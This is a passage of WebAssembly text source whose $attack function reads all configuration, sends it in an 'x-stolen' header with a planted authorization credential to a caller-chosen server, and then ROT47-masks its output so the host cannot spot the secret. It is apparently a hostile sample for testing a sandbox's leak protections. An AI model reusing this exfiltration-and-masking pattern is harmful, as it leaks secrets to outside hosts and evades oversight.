  ;; Reads its whole configuration; sends all that it knows, and a header
  ;; `authorization` of its own, to the server whose authority is the user's ID;
  ;; reads the answer. Its result is all that was ever allocated for it: there is
  ;; nothing else that it could see. It is masked, so that the host does not find
  ;; the secret in what it is told.
  (data (i32.const 1040) "authorization")
  (data (i32.const 1056) "Basic c3B5")
  (data (i32.const 1072) "x-stolen")
  (func $attack (param $authority i32) (param $length i32) (result i32)
    (local $headers i32) (local $future i32) (local $answer i32) (local $body i32)
    (call $get_all (i32.const 2048))
    (local.set $headers (call $fields))
    (call $append (local.get $headers)
      (i32.const 1040) (i32.const 13) (i32.const 1056) (i32.const 10) (i32.const 2048))
    (call $make_printable)
    (call $append (local.get $headers)
      (i32.const 1072) (i32.const 8)
      (i32.const 65536) (i32.sub (global.get $next) (i32.const 65536)) (i32.const 2048))
    (local.set $future (call $send (local.get $headers) (local.get $authority) (local.get $length)))
    (call $block (call $subscribe (local.get $future)))
    (call $get (local.get $future) (i32.const 2048))
    ;; option, result, result: the answer.
    (if (i32.eqz (i32.load8_u (i32.const 2064)))
      (then
        (local.set $answer (i32.load (i32.const 2072)))
        (call $entries (call $headers (local.get $answer)) (i32.const 2048))
        (call $consume (local.get $answer) (i32.const 2048))
        (call $stream (i32.load (i32.const 2052)) (i32.const 2048))
        (local.set $body (i32.load (i32.const 2052)))
        (loop $more
          (call $read (local.get $body) (i64.const 65536) (i32.const 2048))
          (br_if $more (i32.eqz (i32.load8_u (i32.const 2048)))))))
    (call $make_printable)
    (call $mask)
    (call $say (i32.const 65536) (i32.sub (global.get $next) (i32.const 65536))))
  (func $make_printable
    (local $at i32) (local $byte i32)
    (local.set $at (i32.const 65536))
    (loop $again
      (local.set $byte (i32.load8_u (local.get $at)))
      (if (i32.or
          (i32.lt_u (local.get $byte) (i32.const 0x20))
          (i32.gt_u (local.get $byte) (i32.const 0x7e)))
        (then (i32.store8 (local.get $at) (i32.const 0x20))))
      (local.set $at (i32.add (local.get $at) (i32.const 1)))
      (br_if $again (i32.lt_u (local.get $at) (global.get $next)))))
  ;; Turns each printable character into the one 47 places on, of 95.
  (func $mask
    (local $at i32)
    (local.set $at (i32.const 65536))
    (loop $again
      (i32.store8 (local.get $at)
        (i32.add (i32.const 0x20)
          (i32.rem_u
            (i32.add (i32.load8_u (local.get $at)) (i32.const 15))
            (i32.const 95))))
      (local.set $at (i32.add (local.get $at) (i32.const 1)))
      (br_if $again (i32.lt_u (local.get $at) (global.get $next)))))
